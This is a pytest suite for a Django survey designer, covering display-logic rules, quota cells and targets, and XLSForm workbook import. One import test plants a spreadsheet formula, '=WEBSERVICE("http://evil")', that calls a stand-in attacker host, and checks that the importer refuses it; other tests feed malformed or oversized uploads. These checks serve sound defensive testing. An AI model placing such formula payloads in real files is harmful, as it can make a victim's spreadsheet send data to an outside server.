"""The designer's display-logic builder, quotas and XLSForm import through HTTP, and the plain
words the editor uses to say when a question is shown."""

from __future__ import annotations

import io

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from glas.surveys import services
from glas.surveys.forms.design import logic_in_words
from glas.surveys.models import Question, Quota, QuotaCell, Section, Survey
from glas.surveys.xlsform import export_xlsform


@pytest.fixture
def client_for(client_for):
    """Signed-in clients that read the pages in English (the messages are asserted in English)."""

    def factory(user):
        client = client_for(user)
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        return client

    return factory


def url(name, survey, *args):
    return reverse(f"surveys:{name}", args=[survey.public_id, *args])


def logic_of(client, survey, variable, rows, combinator="and"):
    question = survey.questions.get(variable=variable)
    data = {"combinator": combinator}
    for index, row in enumerate(rows):
        data.update({f"{key}_{index}": value for key, value in row.items()})
    response = client.post(url("design_question_logic", survey, question.pk), data)
    question.refresh_from_db()
    return response, question.logic


# --- Plain words ----------------------------------------------------------------------------


def test_logic_is_said_in_plain_words():
    labels = {"q3": {"yes": "Да", "no": "Не"}}
    logic = {
        "and": [
            {"op": "equals", "var": "q3", "value": "yes"},
            {"op": "range", "var": "q5", "min": 18, "max": 30},
            {"or": [{"op": "in", "var": "q1", "values": ["1", "2"]}, {"op": "answered", "var": "q2"}]},
        ]
    }
    assert logic_in_words(logic, labels) == (
        "Shown when q3 = yes (Да) and q5 between 18 and 30 and (q1 is one of 1, 2 or q2 is answered)"
    )
    assert logic_in_words({"op": "range", "var": "age", "min": 30, "min_exclusive": True}) == "Shown when age above 30"
    assert logic_in_words({"op": "range", "var": "age", "max": 65}) == "Shown when age at most 65"
    assert logic_in_words(None) == ""


def test_the_editor_says_when_each_question_is_shown(client_for, researcher, civic_survey):
    page = client_for(researcher).get(url("design_detail", civic_survey)).content.decode()
    assert "Shown when voted = yes (Да)" in page
    assert "Always shown" in page


# --- The builder ----------------------------------------------------------------------------


def test_the_builder_stores_conditions_joined_by_and(client_for, researcher, civic_survey):
    response, logic = logic_of(
        client_for(researcher),
        civic_survey,
        "comment",
        [
            {"var": "voted", "op": "equals", "value": "yes"},
            {"var": "age", "op": "range", "min": "18", "max": "30"},
            {"var": "how", "op": "in", "value": "1, other"},
            {"var": "sex", "op": "answered"},
        ],
    )
    assert response.status_code == 302
    assert logic == {
        "and": [
            {"op": "equals", "var": "voted", "value": "yes"},
            {"op": "range", "var": "age", "min": 18, "max": 30},
            {"op": "in", "var": "how", "values": ["1", "other"]},
            {"op": "answered", "var": "sex"},
        ]
    }


def test_the_builder_stores_a_single_condition_and_an_or(client_for, researcher, civic_survey):
    client = client_for(researcher)
    _response, single = logic_of(client, civic_survey, "sex", [{"var": "age", "op": "range", "min": "65.5"}])
    _response, either = logic_of(
        client,
        civic_survey,
        "comment",
        [{"var": "voted", "op": "equals", "value": "no"}, {"var": "sex", "op": "equals", "value": "f"}],
        combinator="or",
    )
    assert single == {"op": "range", "var": "age", "min": "65.5"}
    assert either == {
        "or": [{"op": "equals", "var": "voted", "value": "no"}, {"op": "equals", "var": "sex", "value": "f"}]
    }


def test_the_builder_shows_the_stored_logic_and_clears_it(client_for, researcher, civic_survey):
    client = client_for(researcher)
    how = civic_survey.questions.get(variable="how")
    form = client.get(url("design_question_logic", civic_survey, how.pk)).context["form"]
    assert (form["var_0"].value(), form["op_0"].value(), form["value_0"].value()) == ("voted", "equals", "yes")

    response, logic = logic_of(client, civic_survey, "how", [])

    assert response.status_code == 302
    assert logic is None


def test_the_builder_offers_only_earlier_questions(client_for, researcher, civic_survey):
    age = civic_survey.questions.get(variable="age")
    form = client_for(researcher).get(url("design_question_logic", civic_survey, age.pk)).context["form"]
    assert [value for value, _label in form.fields["var_0"].choices] == ["", "voted", "how"]


def test_a_forward_reference_is_refused_with_a_clear_message(client_for, researcher, civic_survey):
    response, logic = logic_of(client_for(researcher), civic_survey, "voted", [{"var": "comment", "op": "answered"}])
    assert response.status_code == 400
    assert "not asked before this point" in response.content.decode()
    assert logic is None


def test_a_question_cannot_depend_on_itself(client_for, researcher, civic_survey):
    response, logic = logic_of(client_for(researcher), civic_survey, "age", [{"var": "age", "op": "answered"}])
    assert response.status_code == 400
    assert logic is None


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ({"var": "voted", "op": "equals", "value": "maybe"}, "is not one of the codes"),
        ({"var": "voted", "op": "range", "min": "1"}, "A range can only be set"),
        ({"var": "age", "op": "range"}, "lower or an upper bound"),
        ({"var": "age", "op": "range", "min": "eighteen"}, "Enter a number or a date"),
        ({"var": "voted", "op": "equals", "value": ""}, "Write the answer code"),
        ({"var": "voted", "op": "in", "value": " , "}, "separated by commas"),
        ({"var": "nonexistent", "op": "answered"}, "Select a valid choice"),
        ({"var": "voted", "op": "eval"}, "Select a valid choice"),
    ],
)
def test_bad_conditions_are_refused_with_a_message(client_for, researcher, civic_survey, row, message):
    response, logic = logic_of(client_for(researcher), civic_survey, "comment", [row])
    assert response.status_code == 400
    assert message in response.content.decode()
    assert logic is None


def test_a_section_gets_display_logic(client_for, researcher, civic_survey):
    second = services.section_add(actor=researcher, survey=civic_survey, title="За гласувалите")
    response = client_for(researcher).post(
        url("design_section_logic", civic_survey, second.pk),
        {"combinator": "and", "var_0": "voted", "op_0": "equals", "value_0": "yes"},
    )
    second.refresh_from_db()
    assert response.status_code == 302
    assert second.logic == {"op": "equals", "var": "voted", "value": "yes"}


def test_nested_logic_is_described_and_the_builder_says_it_will_replace_it(client_for, researcher, civic_survey):
    nested = {
        "or": [
            {"op": "answered", "var": "age"},
            {"and": [{"op": "answered", "var": "sex"}, {"op": "answered", "var": "how"}]},
        ]
    }
    comment = civic_survey.questions.get(variable="comment")
    services.question_update(actor=researcher, question=comment, data={"logic": nested})
    response = client_for(researcher).get(url("design_question_logic", civic_survey, comment.pk))
    content = response.content.decode()
    assert "age is answered or (sex is answered and how is answered)" in content
    assert "Saving the form replaces it" in content


def test_in_fieldwork_the_logic_cannot_change(client_for, researcher, in_fieldwork):
    response, logic = logic_of(client_for(researcher), in_fieldwork, "comment", [{"var": "voted", "op": "answered"}])
    assert response.status_code == 400
    assert logic is None


# --- Quotas ---------------------------------------------------------------------------------


def define_sex_quota(client, survey, **extra):
    return client.post(
        url("design_quotas", survey), {"name": "Пол", "variable_1": "sex", "closes_survey": "on", **extra}
    )


def test_a_quota_gets_a_cell_for_every_combination_and_targets_are_set_in_a_table(client_for, researcher, civic_survey):
    client = client_for(researcher)
    defined = client.post(
        url("design_quotas", civic_survey), {"name": "Пол × гласуване", "variable_1": "sex", "variable_2": "voted"}
    )
    quota = Quota.objects.get()
    cells = {cell.key: cell for cell in quota.cells.all()}
    female_yes = cells["sex=f|voted=yes"]

    saved = client.post(
        url("design_quota_targets", civic_survey, quota.pk),
        {f"target_{female_yes.pk}": "40", f"target_{cells['sex=m|voted=no'].pk}": "35"},
    )
    page = client.get(url("design_quotas", civic_survey)).content.decode()

    assert defined.status_code == 302
    assert sorted(cells) == ["sex=f|voted=no", "sex=f|voted=yes", "sex=m|voted=no", "sex=m|voted=yes"]
    assert saved.status_code == 302
    assert dict(quota.cells.values_list("key", "target")) == {
        "sex=f|voted=no": 0,
        "sex=f|voted=yes": 40,
        "sex=m|voted=no": 0 + 35,
        "sex=m|voted=yes": 0,
    }
    assert f'name="target_{female_yes.pk}" value="40"' in page
    assert "sex = f (Жена), voted = yes (Да)" in page


@pytest.mark.parametrize(
    ("data", "field"),
    [
        ({"variable_1": "comment"}, "variable_1"),
        ({"variable_1": "age"}, "variable_1"),
        ({"variable_1": "sex", "variable_2": "sex"}, "variable_2"),
        ({"variable_1": "sex", "name": ""}, "name"),
    ],
)
def test_a_quota_needs_distinct_single_answer_questions_and_a_name(client_for, researcher, civic_survey, data, field):
    response = client_for(researcher).post(url("design_quotas", civic_survey), {"name": "Квота", **data})
    assert response.status_code == 400
    assert field in response.context["form"].errors
    assert not Quota.objects.exists()


def test_a_quota_name_is_used_once(client_for, researcher, civic_survey):
    client = client_for(researcher)
    define_sex_quota(client, civic_survey)
    response = define_sex_quota(client, civic_survey)
    assert response.status_code == 400
    assert Quota.objects.count() == 1


@pytest.mark.parametrize("target", ["-1", "abc", "1e3", "99999999999"])
def test_bad_targets_are_refused(client_for, researcher, civic_survey, target):
    client = client_for(researcher)
    define_sex_quota(client, civic_survey)
    cell = QuotaCell.objects.first()
    response = client.post(url("design_quota_targets", civic_survey, cell.quota_id), {f"target_{cell.pk}": target})
    cell.refresh_from_db()
    assert response.status_code == 400
    assert cell.target == 0


def test_targets_change_in_fieldwork_but_new_quotas_cannot_be_defined(client_for, researcher, civic_survey):
    client = client_for(researcher)
    define_sex_quota(client, civic_survey)
    services.survey_transition(actor=researcher, survey=civic_survey, to=Survey.Status.FIELDWORK)
    cell = QuotaCell.objects.first()

    changed = client.post(url("design_quota_targets", civic_survey, cell.quota_id), {f"target_{cell.pk}": "12"})
    refused = client.post(url("design_quotas", civic_survey), {"name": "Друга", "variable_1": "voted"})

    cell.refresh_from_db()
    assert changed.status_code == 302
    assert cell.target == 12
    assert refused.status_code == 400
    assert Quota.objects.count() == 1


def test_another_surveys_quota_cells_are_not_changed(client_for, researcher, civic_survey):
    client = client_for(researcher)
    define_sex_quota(client, civic_survey)
    cell = QuotaCell.objects.first()
    other = services.survey_create(actor=researcher, title="Друго")
    response = client.post(url("design_quota_targets", other, cell.quota_id), {f"target_{cell.pk}": "5"})
    cell.refresh_from_db()
    assert response.status_code == 404
    assert cell.target == 0


def test_the_quota_page_needs_the_same_number_of_queries_for_one_and_three_quotas(
    client_for, researcher, civic_survey, django_assert_max_num_queries
):
    client = client_for(researcher)
    define_sex_quota(client, civic_survey)
    with django_assert_max_num_queries(16) as one:
        assert client.get(url("design_quotas", civic_survey)).status_code == 200
    client.post(url("design_quotas", civic_survey), {"name": "Място", "variable_1": "place", "variable_2": "voted"})
    client.post(url("design_quotas", civic_survey), {"name": "Начин", "variable_1": "how", "variable_2": "sex"})
    with django_assert_max_num_queries(16) as three:
        assert client.get(url("design_quotas", civic_survey)).status_code == 200
    assert Quota.objects.count() == 3
    assert len(three.captured_queries) == len(one.captured_queries)


# --- XLSForm import -------------------------------------------------------------------------


def upload(client, data, name="form.xlsx", **extra):
    return client.post(reverse("surveys:design_import"), {"file": SimpleUploadedFile(name, data), **extra})


def workbook(rows):
    book = Workbook()
    sheet = book.active
    sheet.title = "survey"
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_an_exported_questionnaire_imports_as_a_new_draft(client_for, researcher, civic_survey):
    response = upload(client_for(researcher), export_xlsform(civic_survey), title="Внос")
    imported = Survey.objects.exclude(pk=civic_survey.pk).get()
    assert response.status_code == 302
    assert response["Location"] == url("design_detail", imported)
    assert (imported.title, imported.status) == ("Внос", "draft")
    assert list(imported.questions.values_list("variable", flat=True)) == [
        "voted",
        "how",
        "age",
        "sex",
        "place",
        "comment",
    ]


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("form.xlsx", b"not a zip at all", "This is not an .xlsx workbook."),
        ("form.xls", b"PK\x03\x04", "Choose an .xlsx workbook."),
        ("form.xlsx", b"PK" + b"\0" * (5 * 1024 * 1024), "larger than 5 MB"),
        ("form.xlsx", b"", "The submitted file is empty."),
    ],
)
def test_hostile_or_broken_uploads_are_refused(client_for, researcher, name, data, message):
    response = upload(client_for(researcher), data, name=name)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert not Survey.objects.exists()


def test_formulas_are_reported_line_by_line_and_nothing_is_imported(client_for, researcher):
    data = workbook([["type", "name", "label"], ["text", "q1", '=WEBSERVICE("http://evil")'], ["text", "q2", "=1+1"]])
    response = upload(client_for(researcher), data)
    content = response.content.decode()
    assert response.status_code == 400
    assert "Sheet “survey”, row 2: a cell holds a formula" in content
    assert "Sheet “survey”, row 3: a cell holds a formula" in content
    assert not Survey.objects.exists()


def test_an_import_without_a_file_is_a_field_error(client_for, researcher):
    response = client_for(researcher).post(reverse("surveys:design_import"), {})
    assert response.status_code == 400
    assert "file" in response.context["form"].errors


def test_only_designers_may_import(client_for, advisor, civic_survey):
    response = upload(client_for(advisor), export_xlsform(civic_survey))
    assert response.status_code == 403
    assert Survey.objects.count() == 1


def test_ids_of_sections_and_questions_stay_with_their_survey_after_import(client_for, researcher, civic_survey):
    upload(client_for(researcher), export_xlsform(civic_survey))
    imported = Survey.objects.exclude(pk=civic_survey.pk).get()
    assert Section.objects.filter(survey=imported).count() == 1
    assert Question.objects.filter(survey=imported).count() == 6
